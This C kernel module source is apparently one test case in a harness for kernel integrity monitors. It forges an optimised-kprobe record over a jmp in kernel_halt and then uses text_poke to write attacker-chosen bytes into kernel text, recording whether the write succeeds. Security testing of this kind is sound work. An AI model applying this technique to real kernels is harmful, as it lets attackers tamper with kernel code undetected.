// SPDX-License-Identifier: GPL-2.0-only
/*
 * What was under a breakpoint or a detour may be put back: the kernel does so when it takes a probe away. Who asks the
 * guest's own table what that was, because he came after the seal, is told five bytes of the attacker's choice. An
 * ordinary jmp of the kernel's is said to be the jump of an optimised probe here, with such bytes below it.
 */
#include <linux/delay.h>
#include <linux/kprobes.h>
#include <linux/string.h>

#include "poke.h"

#define SEARCHED 512

static const u8 chosen[RF_INSN] = { 0xb8, 0x11, 0x22, 0x33, 0x44 }; /* mov $imm32, %eax */
static struct optimized_kprobe probe;

/* The first jmp to somewhere in text, of functions that nobody calls meanwhile. */
static u8 *ordinary_jmp(u8 **target)
{
	static const char *const functions[] = { "kernel_halt", "kernel_power_off", "kernel_restart" };
	u8 *text = rf_symbol("_text"), *end = rf_symbol("_etext");

	for (unsigned int n = 0; n < ARRAY_SIZE(functions); n++) {
		u8 *at = rf_symbol(functions[n]);

		for (unsigned int i = 0; at && i < SEARCHED; i++, at++) {
			*target = at + RF_INSN + *(s32 *)(at + 1);
			if (*at == JMP32_INSN_OPCODE && *target >= text && *target < end)
				return at;
		}
	}
	return NULL;
}

void attack_own_bytes_restart(struct rf_report *r)
{
	static const u8 int3 = INT3_INSN_OPCODE;
	u8 *target, *at = ordinary_jmp(&target);

	if (!at)
		return rf_skip(r, "no jmp in the functions that were looked at");
	if (!rf_aim_at(r, "kernel_halt", at, RF_INSN))
		return;
	if (!rf_forge_probe(&probe, at, chosen, target))
		return rf_skip(r, "this kernel keeps its probes elsewhere");
	ssleep(rf_patience); /* another monitor comes, and reads the table */
	if (!rf_poke_begin(r))
		return;
	rf_poke_record(true); /* without which no first step is looked at */
	rf_text_poke(at, &int3, 1);
	rf_text_poke(at + 1, chosen + 1, RF_INSN - 1);
	rf_text_poke(at, chosen, 1);
	r->outcome = memcmp(at, r->before, RF_INSN) ? RF_LANDED : RF_FAULTED;
	rf_poke_restore(r);
	rf_poke_end(r);
	rf_poke_record(false);
	rf_unforge_probe(&probe);
}
